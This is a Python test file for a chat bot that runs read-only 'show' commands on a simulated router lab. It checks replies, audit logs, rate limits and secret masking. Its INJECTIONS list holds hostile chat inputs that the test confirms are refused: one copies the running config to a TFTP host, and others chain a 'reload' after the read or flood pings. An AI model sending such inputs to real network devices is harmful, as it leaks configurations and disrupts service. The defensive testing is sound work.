"""Reads in chat on the simulated lab: `show … on R1 R2` answers in the thread with no gate, one
block per device (a TextFSM table where a template exists); anything but an allowed read is
refused and nothing reaches any device (the devices' own record of what they were sent); reads
are in the audit; the per-user rate limit holds."""

from __future__ import annotations

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

from bot.audit.table import entry_summary
from bot.cli.demo import DEMO_CREDENTIALS, demo_settings
from bot.runtime.wiring import Runtime, open_runtime
from bot.settings import load_settings
from labsim import Lab, Topology, demo_topology
from labsim.cli import CliSession
from tests.bot.chat import RecordingAdapter, ask
from tests.support.masks import MASK
from workflow.devices.inventories.static import StaticInventory

INJECTIONS = [
    "show run | redirect tftp://10.0.0.9/r1.cfg on R1 R2",
    "show version ; reload on R1 R2",
    "show run\nreload on R1 R2",
    "show run on R1 R2\nreload",
    "run do reload on R1 R2",
    "run copy run tftp on R1 R2",
    "ping 10.0.0.1 repeat 100000 on R1 R2",
    "show run on R1 R2 reload",
    "show run on R1 R9",
]


@asynccontextmanager
async def bot_on_lab(
    tmp_path: Path,
    chat: RecordingAdapter,
    topology: Topology | None = None,
    **settings: object,
) -> AsyncIterator[tuple[Lab, Runtime]]:
    topology = topology or demo_topology(2, switch=False)
    async with Lab.start(topology, ssh=False, **DEMO_CREDENTIALS) as lab:
        config = demo_settings(load_settings(data_dir=tmp_path)).model_copy(update=settings)
        inventory = StaticInventory(lab.write_inventory(tmp_path / "hosts.yaml", "telnet"))
        async with open_runtime(config, chat, inventory=inventory) as runtime:
            yield lab, runtime


def blocks(chat: RecordingAdapter) -> dict[str, str]:
    return {block.title: block.text for block in chat.messages()[-1].blocks}


async def test_show_on_two_devices_answers_each_in_the_thread_without_a_gate(
    tmp_path: Path,
) -> None:
    chat = RecordingAdapter()
    async with bot_on_lab(tmp_path, chat) as (lab, bot):
        await bot.service.handle(ask("show ip ospf neighbor on r1 r2", "alice"))
        said = chat.messages()[-1]
        assert not any(m.buttons for m in chat.messages())  # no gate
        assert said.text == "`show ip ospf neighbor` on R1, R2: ✓ 2 ✗ 0", said.text
        assert sorted(blocks(chat)) == [
            "✓ R1 · show ip ospf neighbor",
            "✓ R2 · show ip ospf neighbor",
        ]
        await bot.service.handle(ask("sh ip int br on R1", "alice"))
        table = blocks(chat)["✓ R1 · show ip int br"]
        await bot.service.handle(ask("show ip interface brief on R1 raw", "alice"))
        raw = blocks(chat)["✓ R1 · show ip interface brief"]
        for device in ("R1", "R2"):
            assert "show ip ospf neighbor" in lab.device(device).commands_seen
    # ntc-templates' columns, one row per interface; the raw text is IOS's own
    assert table.splitlines()[0].split()[:3] == ["interface", "ip_address", "status"], table
    assert "GigabitEthernet0/0" in table
    assert raw.startswith("Interface") and "Method Status" in raw, raw


async def test_questions_in_plain_words_are_reads(tmp_path: Path) -> None:
    chat = RecordingAdapter()
    async with bot_on_lab(tmp_path, chat) as (lab, bot):
        await bot.service.handle(ask("What are the interfaces on R1?", "alice"))
        interfaces = chat.messages()[-1]
        await bot.service.handle(ask("version of R2", "alice"))
        version = chat.messages()[-1]
        seen = {name: lab.device(name).commands_seen for name in ("R1", "R2")}
    assert interfaces.text == "`interfaces` on R1: ✓ 1 ✗ 0", chat.texts()
    assert interfaces.blocks[0].title == "✓ R1 · show ip interface brief"
    assert interfaces.blocks[0].text.startswith("interface"), interfaces.blocks[0].text
    assert "show ip interface brief" in seen["R1"] and "show version" in seen["R2"]
    fields = dict(line.split(maxsplit=1) for line in version.blocks[0].text.splitlines())
    assert fields["version"] == "15.9(3)M4" and fields["hostname"] == "R2", fields
    assert not any(m.buttons for m in chat.messages())


async def test_injections_are_refused_and_nothing_reaches_a_device(tmp_path: Path) -> None:
    chat = RecordingAdapter()
    async with bot_on_lab(tmp_path, chat) as (lab, bot):
        before = {name: list(lab.device(name).commands_seen) for name in ("R1", "R2")}
        for text in INJECTIONS:
            await bot.service.handle(ask(text, "mallory"))
        after = {name: list(lab.device(name).commands_seen) for name in ("R1", "R2")}
        refusals = chat.said_to("console:mallory")
        entries = await bot.audit.entries(user="mallory")
    assert after == before  # not one line sent to either device
    assert len(refusals) == len(INJECTIONS), chat.texts()
    assert all(text.startswith("Refused: ") for text in refusals)
    assert "`| redirect` is not an output filter" in refusals[0]
    assert "`copy` is not a read" in refusals[5]
    assert "there is no device 'R9'" in refusals[-1]
    assert [e.kind for e in entries] == ["refusal"] * len(INJECTIONS)  # recorded, no read


async def test_the_audit_lists_reads_and_the_rate_limit_holds(tmp_path: Path) -> None:
    chat = RecordingAdapter()
    async with bot_on_lab(tmp_path, chat, max_reads_per_minute=3) as (lab, bot):
        await bot.service.handle(ask("show version on R1 R2", "alice"))
        await bot.service.handle(ask("show clock on R1 R2", "alice"))  # 4 > 3
        await bot.service.handle(ask("show clock on R1", "bob"))  # bob has his own budget
        reads = await bot.audit.entries(device="R1")
        seen = list(lab.device("R1").commands_seen)
        await bot.service.handle(ask("audit device=R1", "carol"))  # what people see in chat
        listing = chat.messages()[-1].blocks[0].text.splitlines()
    assert [(e.kind, e.actor_name, entry_summary(e, MASK)) for e in reads] == [
        ("read", "alice", "read on R1: show version"),
        ("read", "bob", "read on R1: show clock"),
    ]
    rows = [" ".join(line.split()[2:]) for line in listing[1:]]
    assert rows == [
        "read alice R1 read on R1: show version",
        "read bob R1 read on R1: show clock",
    ], listing
    limited = chat.said_to("console:alice")
    assert limited and "LABBOT_MAX_READS_PER_MINUTE" in limited[-1], chat.texts()
    assert seen.count("show clock") == 1  # only bob's


async def test_secrets_in_output_are_masked(tmp_path: Path) -> None:
    chat = RecordingAdapter()
    async with bot_on_lab(tmp_path, chat) as (lab, bot):
        console = CliSession(lab.device("R1"), privileged=True, secret="")
        for line in ("configure terminal", "snmp-server community Sup3rSecret RO", "end"):
            console.feed_line(line)
        await bot.service.handle(ask("show running-config on R1", "alice"))
    shown = blocks(chat)["✓ R1 · show running-config"]
    assert f"snmp-server community {bot.service.reporter.mask.token('Sup3rSecret')} RO" in shown, (
        shown
    )
    assert "Sup3rSecret" not in shown
